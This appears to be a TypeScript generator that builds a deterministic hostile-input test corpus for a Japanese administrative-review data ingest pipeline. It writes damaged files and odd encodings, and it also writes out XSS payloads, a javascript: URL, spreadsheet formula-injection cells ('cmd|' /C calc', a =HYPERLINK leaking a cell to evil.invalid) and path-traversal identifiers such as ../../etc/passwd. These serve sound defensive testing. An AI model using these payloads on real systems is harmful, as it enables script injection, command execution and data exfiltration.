/**
 * Hostile-input corpus, generated deterministically from the bundled sample (seeds + RS sample).
 *
 * Every case is a file (or a few) that a ministry, a careless export or an attacker could put
 * into a sources folder: truncated, shuffled and duplicated files, binary noise, NUL bytes, very
 * long lines, a 50 MB file, Shift_JIS and UTF-16 text, markup and script in names and texts,
 * spreadsheet formulas in cells, path-like 事業番号, duplicate identities, empty CSV tables, and RS
 * tables with their columns in another order or with unknown columns.
 *
 * The corpus is the sample copied unchanged plus the hostile files under `zz-hostile/` (sorted after
 * every sample file, so where a hostile file duplicates a sample record the sample's file is the one
 * read first and kept — the documented "first file wins" rule). Output goes to `.build/` only: the
 * 50 MB file must never be committed.
 *
 * Same input → same bytes: a seeded PRNG, no clock, no environment.
 *
 * Usage: node test/hostile/generate.ts [outDir] [--no-big]
 */
import { copyFileSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join, relative, resolve, sep } from 'node:path';
import { listFiles } from '../../scripts/lib/fs.ts';
import { prng } from '../../scripts/lib/prng.ts';

export const HOSTILE_DIR = 'zz-hostile';
/** A global the injected payloads set; the browser test asserts it never appears. */
export const PWN_GLOBAL = '__h8pwned';
/** Payloads: markup that would run script if any source text ever became markup. */
export const XSS = {
  script: `<script>window.${PWN_GLOBAL}=(window.${PWN_GLOBAL}||0)+1;alert('script')</script>`,
  img: `<img src=x onerror="window.${PWN_GLOBAL}=(window.${PWN_GLOBAL}||0)+1;alert('img')">`,
  svg: `"><svg onload=alert('svg')><!--`,
  attr: `' onmouseover='alert(1)' x='`,
  closeScript: `</script><script>alert('json')</script>`,
  template: '{{constructor.constructor("alert(1)")()}} ${alert(1)}',
};
export const FORMULAS = ['=HYPERLINK("http://evil.invalid/?q="&A1,"詳細はこちら")', '+1+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0'];

/** What the ingest report must say about one hostile file. */
export interface Expectation {
  /** Path relative to the sources folder, as the report names it. */
  file: string;
  /**
   * rejected: status error, an error message matching `message`, no record.
   * flagged: not ok — an error, or a partial record with warnings/missing fields (matching `message` if given).
   * accepted: a record is published (status ok or partial).
   * any: only "no crash, the file is in the report".
   */
  outcome: 'rejected' | 'flagged' | 'accepted' | 'any';
  message?: RegExp;
}

export interface HostileCase {
  name: string;
  description: string;
  files: string[];
  expect: Expectation[];
  /** Literal strings that must appear as text (never markup) on the record's page, if accepted. */
  literal?: string[];
  /** Payload checks for the open-data CSV: these cell values must not start a formula. */
  formulas?: string[];
}

export interface Manifest {
  sourcesDir: string;
  cases: HostileCase[];
}

// ---------------------------------------------------------------------------------------------
// Deterministic helpers

function shuffle<T>(items: T[], rand: () => number): T[] {
  const a = [...items];
  for (let i = a.length - 1; i > 0; i--) {
    const j = Math.floor(rand() * (i + 1));
    [a[i], a[j]] = [a[j]!, a[i]!];
  }
  return a;
}

const utf8 = (s: string) => new TextEncoder().encode(s);

let sjisTable: Map<string, number[]> | null = null;
/** Shift_JIS encoder built from the platform's own decoder (no dependency): char → bytes. */
export function encodeShiftJis(text: string): Uint8Array {
  if (!sjisTable) {
    sjisTable = new Map();
    const dec = new TextDecoder('shift_jis', { fatal: true });
    for (let b = 0; b < 0x80; b++) sjisTable.set(String.fromCharCode(b), [b]);
    for (let b = 0xa1; b <= 0xdf; b++) sjisTable.set(dec.decode(new Uint8Array([b])), [b]);
    const leads = [...Array.from({ length: 0x9f - 0x81 + 1 }, (_, i) => 0x81 + i), ...Array.from({ length: 0xfc - 0xe0 + 1 }, (_, i) => 0xe0 + i)];
    for (const lead of leads) {
      for (let trail = 0x40; trail <= 0xfc; trail++) {
        if (trail === 0x7f) continue;
        let ch: string;
        try {
          ch = dec.decode(new Uint8Array([lead, trail]));
        } catch {
          continue;
        }
        if (!sjisTable.has(ch)) sjisTable.set(ch, [lead, trail]);
      }
    }
  }
  const out: number[] = [];
  for (const ch of text) {
    const bytes = sjisTable.get(ch) ?? sjisTable.get(ch.normalize('NFKC')) ?? [0x3f];
    out.push(...bytes);
  }
  return Uint8Array.from(out);
}

export function encodeUtf16(text: string, endian: 'le' | 'be', bom: boolean): Uint8Array {
  const out = new Uint8Array((text.length + (bom ? 1 : 0)) * 2);
  let o = 0;
  const put = (u: number) => {
    if (endian === 'le') {
      out[o++] = u & 0xff;
      out[o++] = u >> 8;
    } else {
      out[o++] = u >> 8;
      out[o++] = u & 0xff;
    }
  };
  if (bom) put(0xfeff);
  for (let i = 0; i < text.length; i++) put(text.charCodeAt(i));
  return out;
}

/** Cut `bytes` at `at`, moving back if needed so the cut falls inside a UTF-8 multi-byte character. */
function cutInsideCharacter(bytes: Uint8Array, at: number): Uint8Array {
  let i = at;
  while (i > 1 && !(bytes[i]! >= 0x80 && bytes[i]! < 0xc0 && bytes[i - 1]! >= 0xe0)) i--;
  return bytes.subarray(0, i);
}

// ---------------------------------------------------------------------------------------------
// Variants of a table-layout seed with a new identity, so that accepted hostile records get their
// own pages (and never take over a sample record's identity).

const TABLE_SEED = '003_2ca5ca57c89a6f5a.txt';
const TABLE_SEED_2 = '004_bd9263d41549200e.txt';

interface VariantEdit {
  number: string;
  name?: string;
  division?: string;
  purpose?: string;
  summary?: string;
  recipient?: string;
}

/** The ministry hostile sheets claim: one the sample does not have, so its pages are all new. */
export const HOSTILE_MINISTRY = '法務';

/**
 * A seed moved out of the sample's world: ministry 総務省 → 法務省, every company renamed
 * (株式会社 → 架空株式会社) and every 法人番号 removed. A hostile record then shares no ministry,
 * measure or recipient with the sample, so no sample page may change because of it.
 */
export function isolate(text: string): string {
  return text.replace(/総務/g, HOSTILE_MINISTRY).replace(/株式会社/g, '架空株式会社').replace(/(?<!\d)\d{13}(?!\d)/g, '');
}

/**
 * Seed 003 (総務省, 2021), isolated (see `isolate`) and given another 事業番号 and the edits.
 */
export function tableVariant(seed: string, edit: VariantEdit): string {
  const lines = isolate(seed).split('\n');
  const out = lines.map((line) => {
    let l = line;
    if (/^事業番号/.test(l)) l = `事業番号 ${edit.number}`;
    const cells = l.split('\t');
    if (cells[0] === '事業名' && edit.name !== undefined) cells[1] = edit.name;
    if (cells[4] === '担当課室' && edit.division !== undefined) cells[5] = edit.division;
    if (/^事業の目的/.test(cells[0] ?? '') && edit.purpose !== undefined) cells[1] = edit.purpose;
    if (/^事業概要/.test(cells[0] ?? '') && edit.summary !== undefined) cells[1] = edit.summary;
    // First top-10 recipient: the payload as its name.
    if (/^1\t架空株式会社エヌ・ティ・ティ・データ経営研究所\t/.test(l) && edit.recipient !== undefined) {
      cells[1] = edit.recipient;
      cells[2] = '';
    }
    return cells.join('\t');
  });
  return out.join('\n');
}

// ---------------------------------------------------------------------------------------------
// RS CSV helpers (the sample's tables: `rs2024-sample/*.csv`, UTF-8 with BOM, CRLF)

function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

function toCsv(rows: string[][]): string {
  const q = (v: string) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
  return '\uFEFF' + rows.map((r) => r.map(q).join(',')).join('\r\n') + '\r\n';
}

// ---------------------------------------------------------------------------------------------

export interface GenerateOptions {
  /** Sample folder (seeds + rs2024-sample). */
  sampleDir: string;
  /** Output: `<outDir>/sources/` is the full corpus (sample + hostile). */
  outDir: string;
  /** Include the 50 MB file (default true). */
  big?: boolean;
}

export async function generateHostileCorpus(opts: GenerateOptions): Promise<Manifest> {
  const sourcesDir = join(opts.outDir, 'sources');
  rmSync(opts.outDir, { recursive: true, force: true });
  mkdirSync(sourcesDir, { recursive: true });
  // 1. The sample, copied unchanged (documentation files included; ingest skips them).
  for (const f of await listFiles(opts.sampleDir)) {
    const rel = relative(opts.sampleDir, f);
    mkdirSync(dirname(join(sourcesDir, rel)), { recursive: true });
    copyFileSync(f, join(sourcesDir, rel));
  }
  const cases: HostileCase[] = [];
  const put = (rel: string, bytes: Uint8Array | string) => {
    const full = join(sourcesDir, HOSTILE_DIR, rel);
    mkdirSync(dirname(full), { recursive: true });
    writeFileSync(full, bytes);
    return `${HOSTILE_DIR}/${rel.split(sep).join('/')}`;
  };
  const add = (c: HostileCase) => cases.push(c);
  const seedBytes = new Uint8Array(readFileSync(join(opts.sampleDir, TABLE_SEED)));
  const seed = new TextDecoder().decode(seedBytes);
  const seed2 = readFileSync(join(opts.sampleDir, TABLE_SEED_2), 'utf8');
  const textFlowSeed = readFileSync(join(opts.sampleDir, '000_32862afcf57beb1e.txt'), 'utf8');

  // --- damaged copies of real files --------------------------------------------------------
  let f = put('truncated-mid-character.txt', cutInsideCharacter(seedBytes, Math.floor(seedBytes.length * 0.55)));
  add({ name: 'truncated-mid-character', description: 'seed 003 cut in the middle of a UTF-8 character (an interrupted download)', files: [f], expect: [{ file: f, outcome: 'flagged', message: /UTF-8|文字コード|encoding|バイト|byte|途中|truncat|重複|同じ識別子|duplicate/i }] });

  const seedLines = seed.split('\n');
  f = put('truncated-half.txt', seedLines.slice(0, Math.floor(seedLines.length / 2)).join('\n'));
  add({ name: 'truncated-half', description: 'seed 003 cut at a line boundary halfway: same identity as the sample sheet', files: [f], expect: [{ file: f, outcome: 'flagged' }] });

  f = put('truncated-first-lines.txt', seedLines.slice(0, 3).join('\n') + '\n');
  add({ name: 'truncated-first-lines', description: 'only the first 3 lines of seed 003', files: [f], expect: [{ file: f, outcome: 'flagged' }] });

  f = put('shuffled-lines.txt', shuffle(isolate(seed2).split('\n'), prng(42)).join('\n'));
  add({ name: 'shuffled-lines', description: 'seed 004 (isolated) with its lines in random order', files: [f], expect: [{ file: f, outcome: 'any' }] });

  // Old Mac CR line ends, Windows CRLF and LF mixed, a BOM in the middle, zero-width and bidi controls.
  const mixed = isolate(textFlowSeed)
    .split('\n')
    .map((l, i) => (i % 7 === 3 ? `\u200b${l}\u202e` : l) + (i % 3 === 0 ? '\r' : i % 3 === 1 ? '\r\n' : '\n'))
    .join('');
  f = put('mixed-line-endings.txt', `\uFEFF${mixed.slice(0, 2000)}\uFEFF${mixed.slice(2000)}`);
  add({ name: 'mixed-line-endings', description: 'seed 000 (text-flow, isolated) with CR, CRLF and LF mixed, a BOM mid-file, zero-width and bidi controls', files: [f], expect: [{ file: f, outcome: 'any' }] });

  f = put('duplicate-of-003.txt', seedBytes);
  add({ name: 'duplicate-file', description: 'a byte-identical copy of seed 003 under another name', files: [f], expect: [{ file: f, outcome: 'rejected', message: /同じ識別子|重複|duplicate/i }] });

  f = put('duplicate-identity-edited.txt', seed.replace('自治体AI共同開発推進事業', '自治体AI共同開発推進事業（改）'));
  add({ name: 'duplicate-identity', description: 'an edited copy of seed 003 claiming the same 事業番号 and year', files: [f], expect: [{ file: f, outcome: 'any' }] });

  // --- not text ---------------------------------------------------------------------------
  const rand = prng(7);
  const noise = new Uint8Array(64 * 1024);
  for (let i = 0; i < noise.length; i++) noise[i] = Math.floor(rand() * 256);
  f = put('binary-noise.txt', noise);
  add({ name: 'binary-noise', description: '64 KiB of random bytes named .txt', files: [f], expect: [{ file: f, outcome: 'rejected', message: /バイナリ|binary|文字コード|encoding|undecodable/i }] });

  // NULs between characters (still valid UTF-8), and a NUL-damaged copy (bytes overwritten mid-character).
  f = put('nul-bytes.txt', seedLines.map((l, i) => (i % 10 === 5 ? `\u0000${l}` : l)).join('\n'));
  add({ name: 'nul-bytes', description: 'seed 003 with NUL characters at the start of every tenth line', files: [f], expect: [{ file: f, outcome: 'rejected', message: /NUL|バイナリ|binary/i }] });
  const withNul = new Uint8Array(seedBytes);
  for (let i = 1; i <= 8; i++) withNul[Math.floor((withNul.length * i) / 9)] = 0;
  f = put('nul-overwritten.txt', withNul);
  add({ name: 'nul-overwritten', description: 'seed 003 with 8 bytes overwritten by NUL (breaking UTF-8 sequences)', files: [f], expect: [{ file: f, outcome: 'rejected', message: /NUL|バイナリ|binary|文字コード|UTF-8/i }] });

  f = put('empty.txt', new Uint8Array(0));
  add({ name: 'empty-file', description: 'a 0-byte file', files: [f], expect: [{ file: f, outcome: 'rejected', message: /空|empty/i }] });
  f = put('whitespace-only.txt', ' \r\n\t\n\u3000\n');
  add({ name: 'whitespace-file', description: 'only whitespace', files: [f], expect: [{ file: f, outcome: 'rejected', message: /空|empty|whitespace/i }] });
  f = put('not-a-review-sheet.txt', '吾輩は猫である。名前はまだ無い。\nどこで生れたかとんと見当がつかぬ。\n');
  add({ name: 'unknown-kind', description: 'Japanese text that is neither a review sheet nor an evaluation', files: [f], expect: [{ file: f, outcome: 'rejected', message: /種類|unknown/i }] });

  // --- sizes ---------------------------------------------------------------------------------
  const longSummary = 'とても長い事業概要。'.repeat(100_000); // 1,000,000 characters on one line
  f = put('long-line.txt', tableVariant(seed, { number: '2021 - 法務 - 20 - 9101', name: '長い行の事業', summary: longSummary }));
  add({ name: 'long-line', description: 'a sheet whose 事業概要 is one line of 1,000,000 characters', files: [f], expect: [{ file: f, outcome: 'any' }] });

  const oneLine = seedLines.join(' ').repeat(40); // ~830 KB, no line break at all
  f = put('no-line-breaks.txt', oneLine);
  add({ name: 'no-line-breaks', description: 'seed 003 repeated 40× with every line break removed (one ~0.8 MB line)', files: [f], expect: [{ file: f, outcome: 'any' }] });

  if (opts.big !== false) {
    // 50 MB: the sheet's lines repeated, so it still looks like a review sheet to the detector.
    const target = 50 * 1024 * 1024;
    const unit = utf8(seedLines.slice(8).join('\n') + '\n');
    const head = utf8(tableVariant(seed, { number: '2021 - 法務 - 20 - 9199', name: '50MBの資料' }) + '\n');
    const big = new Uint8Array(target);
    big.set(head, 0);
    let o = head.length;
    while (o < target) {
      const n = Math.min(unit.length, target - o);
      big.set(unit.subarray(0, n), o);
      o += n;
    }
    // End on a whole character: step back over a partial UTF-8 sequence, pad with newlines.
    let end = target;
    while (end > 0 && big[end - 1]! >= 0x80) end--;
    big.fill(0x0a, end);
    f = put('huge-50mb.txt', big);
    add({ name: 'huge-file', description: 'a 50 MB text file', files: [f], expect: [{ file: f, outcome: 'flagged', message: /大きすぎ|too large|サイズ|size|MB/i }] });
  }

  // --- encodings -----------------------------------------------------------------------------
  f = put('shift-jis.txt', encodeShiftJis(tableVariant(seed, { number: '2021 - 法務 - 20 - 9102', name: 'シフトJISの事業（①髙﨑）' })));
  add({ name: 'shift-jis', description: 'a sheet in Shift_JIS (CP932), with a new 事業番号', files: [f], expect: [{ file: f, outcome: 'accepted' }], literal: ['シフトJISの事業'] });
  f = put('utf-16le-bom.txt', encodeUtf16(tableVariant(seed, { number: '2021 - 法務 - 20 - 9103', name: 'UTF-16LEの事業' }), 'le', true));
  add({ name: 'utf-16le', description: 'a sheet in UTF-16LE with BOM', files: [f], expect: [{ file: f, outcome: 'accepted' }], literal: ['UTF-16LEの事業'] });
  f = put('utf-16be-bom.txt', encodeUtf16(tableVariant(seed, { number: '2021 - 法務 - 20 - 9104', name: 'UTF-16BEの事業' }), 'be', true));
  add({ name: 'utf-16be', description: 'a sheet in UTF-16BE with BOM', files: [f], expect: [{ file: f, outcome: 'accepted' }], literal: ['UTF-16BEの事業'] });
  f = put('utf-16le-no-bom.txt', encodeUtf16(tableVariant(seed, { number: '2021 - 法務 - 20 - 9105', name: 'BOMなしUTF-16の事業' }), 'le', false));
  add({ name: 'utf-16-no-bom', description: 'a sheet in UTF-16LE without BOM (every other byte NUL)', files: [f], expect: [{ file: f, outcome: 'any' }] });
  f = put('latin1-mojibake.txt', Uint8Array.from([...utf8('事業番号 2021 - ${HOSTILE_MINISTRY} - 20 - 9106\n'), 0xe9, 0x74, 0xe9, 0x0a, 0xff, 0xfe, 0xfd]));
  add({ name: 'undecodable', description: 'UTF-8 mixed with bytes valid in neither UTF-8 nor Shift_JIS', files: [f], expect: [{ file: f, outcome: 'rejected', message: /文字コード|UTF-8|encoding|undecodable|バイナリ|binary/i }] });

  // --- markup, script and formulas in names and texts ---------------------------------------
  const xssName = `XSS事業 ${XSS.script}${XSS.img}`;
  f = put(`<img src=x onerror=alert('file')>.txt`, tableVariant(seed, { number: '2021 - 法務 - 20 - 9107', name: xssName, division: `課${XSS.svg}`, purpose: `目的${XSS.closeScript}${XSS.attr}`, summary: `概要${XSS.template}<b>太字</b><a href="javascript:alert(1)">link</a>`, recipient: `株式会社${XSS.img}` }));
  add({
    name: 'markup-in-names',
    description: 'script, event-handler and JSON-breaking markup in 事業名, 担当課室, 目的, 概要, 支出先 and in the file name itself',
    files: [f],
    expect: [{ file: f, outcome: 'accepted' }],
    literal: ['XSS事業', `<script>window.${PWN_GLOBAL}`],
  });
  f = put(`dir "quoted" & <b>bold</b>/file name ' with quotes.txt`, tableVariant(seed, { number: '2021 - 法務 - 20 - 9108', name: `引用符"'&amp;の事業` }));
  add({ name: 'markup-in-path', description: 'quotes, ampersands and tags in folder and file names', files: [f], expect: [{ file: f, outcome: 'accepted' }], literal: [`引用符"'&amp;の事業`] });

  f = put('formula-cells.txt', tableVariant(seed, { number: '2021 - 法務 - 20 - 9109', name: FORMULAS[0]!, division: FORMULAS[1]!, purpose: FORMULAS[2]!, summary: FORMULAS[3]!, recipient: FORMULAS[0]! }));
  add({ name: 'formula-cells', description: 'spreadsheet formulas (=HYPERLINK, +cmd, @SUM, -2+3) as 事業名, 担当課室, 目的, 概要, 支出先', files: [f], expect: [{ file: f, outcome: 'accepted' }], literal: [FORMULAS[0]!], formulas: FORMULAS });

  // --- identities that look like paths -------------------------------------------------------
  for (const [i, num] of (['../../etc/passwd', '..\\..\\windows\\win.ini', '%2e%2e%2f%2e%2e%2fetc', '/absolute/path', 'CON', '2021 - 法務 - 20 - ../../../index'] as const).entries()) {
    f = put(`path-number-${i}.txt`, tableVariant(seed, { number: num, name: `パス番号の事業${i}` }));
    add({ name: `path-number-${i}`, description: `事業番号 "${num}"`, files: [f], expect: [{ file: f, outcome: 'any' }] });
  }

  // --- RS CSV --------------------------------------------------------------------------------
  const rsDir = join(opts.sampleDir, 'rs2024-sample');
  if (existsSync(rsDir)) addRsCases(rsDir, put, add);

  const manifest: Manifest = { sourcesDir, cases };
  writeFileSync(join(opts.outDir, 'manifest.json'), JSON.stringify(manifest, (_k, v) => (v instanceof RegExp ? v.source : v), 2) + '\n');
  return manifest;
}

/**
 * RS cases: empty tables, reordered/unknown columns, duplicate identities, hostile cell text.
 * File names differ from the official ones: tables are recognised by their header, and a second
 * file with an official table's exact name makes the importer key every table by full path.
 */
function addRsCases(rsDir: string, put: (rel: string, b: Uint8Array | string) => string, add: (c: HostileCase) => void): void {
  const tables = new Map<string, string[][]>();
  for (const name of ['1-2_RS_2024_基本情報_事業概要等.csv', '2-1_RS_2024_予算・執行_サマリ.csv']) {
    const p = join(rsDir, name);
    if (existsSync(p)) tables.set(name, parseCsv(readFileSync(p, 'utf8').replace(/^\uFEFF/, '')));
  }
  const overview = tables.get('1-2_RS_2024_基本情報_事業概要等.csv');

  let f = put('rs-empty/empty-table.csv', new Uint8Array(0));
  add({ name: 'rs-empty-table', description: 'an RS table of 0 bytes', files: [f], expect: [{ file: f, outcome: 'flagged', message: /空|empty|ヘッダー|header/i }] });
  f = put('rs-bom-only/bom-only-table.csv', '\uFEFF');
  add({ name: 'rs-bom-only-table', description: 'an RS table that is only a BOM', files: [f], expect: [{ file: f, outcome: 'flagged', message: /空|empty|ヘッダー|header/i }] });
  const remarks = join(rsDir, '6-1_RS_2024_その他備考.csv');
  const remarksHeader = existsSync(remarks) ? readFileSync(remarks, 'utf8').replace(/^\uFEFF/, '').split(/\r?\n/)[0]! : 'シート種別,事業年度,予算事業ID,事業名';
  f = put('rs-header-only/header-only-6-1.csv', `\uFEFF${remarksHeader}\r\n`);
  add({ name: 'rs-header-only-table', description: 'an RS table with a header and no rows', files: [f], expect: [{ file: f, outcome: 'any' }] });
  f = put('rs-garbage/not-an-rs-table.csv', '\uFEFFこれは,CSV,ですが\r\nRS,の,表ではありません\r\n');
  add({ name: 'rs-unknown-header', description: 'a .csv whose header is not an RS header', files: [f], expect: [{ file: f, outcome: 'flagged', message: /ヘッダー|header|列|column|RS/i }] });

  if (overview && overview.length > 1) {
    const [header, ...rows] = overview;
    const idCol = header!.indexOf('予算事業ID');
    const nameCol = header!.indexOf('事業名');
    const purposeCol = header!.indexOf('事業の目的');
    const urlCol = header!.indexOf('事業概要URL');
    // New projects (ids the sample does not have), columns reversed, plus an unknown column.
    const ministryCols = ['政策所管府省庁', '府省庁'].map((h) => header!.indexOf(h)).filter((i) => i >= 0);
    const fresh = rows.slice(0, 2).map((r, i) => {
      const c = [...r];
      for (const m of ministryCols) c[m] = '法務省';
      c[idCol] = String(990000 + i);
      c[nameCol] = i === 0 ? `RS事業${XSS.script}` : FORMULAS[0]!;
      if (purposeCol >= 0) c[purposeCol] = `目的${XSS.img}`;
      if (urlCol >= 0) c[urlCol] = 'javascript:alert(document.domain)';
      return c;
    });
    const order = header!.map((_, i) => i).reverse();
    const reordered = [[...order.map((i) => header![i]!), '未知の列'], ...fresh.map((r) => [...order.map((i) => r[i] ?? ''), '未知の値'])];
    f = put('rs-reordered/reordered-columns-1-2.csv', toCsv(reordered));
    add({ name: 'rs-reordered-unknown-columns', description: 'RS 1-2 table with columns in reverse order plus an unknown column; new 予算事業ID, script and formula in 事業名, javascript: URL', files: [f], expect: [{ file: f, outcome: 'any' }], literal: [`目的<img src=x onerror=`], formulas: [FORMULAS[0]!] });

    // Duplicate identity: a sample project's row again (same 事業年度 + 予算事業ID), in a second file.
    f = put('rs-duplicate/duplicate-project-1-2.csv', toCsv([header!, rows[0]!]));
    add({ name: 'rs-duplicate-identity', description: 'an RS 1-2 table repeating a sample project (same 事業年度 and 予算事業ID)', files: [f], expect: [{ file: f, outcome: 'flagged', message: /同じ|重複|duplicate/i }] });

    // Path-like 予算事業ID.
    const pathRow = [...rows[0]!];
    pathRow[idCol] = '../../etc';
    pathRow[nameCol] = 'パスのようなID';
    for (const m of ministryCols) pathRow[m] = '法務省';
    f = put('rs-path-id/path-like-id-1-2.csv', toCsv([header!, pathRow]));
    add({ name: 'rs-path-id', description: 'an RS row whose 予算事業ID is ../../etc', files: [f], expect: [{ file: f, outcome: 'any' }] });
  }
}

if (import.meta.main) {
  const root = resolve(import.meta.dirname, '../..');
  const out = resolve(root, process.argv.slice(2).find((a) => !a.startsWith('--')) ?? '.build/hostile');
  const m = await generateHostileCorpus({ sampleDir: join(root, 'content/sources'), outDir: out, big: !process.argv.includes('--no-big') });
  console.log(`${m.cases.length} hostile cases → ${m.sourcesDir}`);
  for (const c of m.cases) console.log(`  ${c.name.padEnd(32)} ${c.files.join(', ')}`);
}
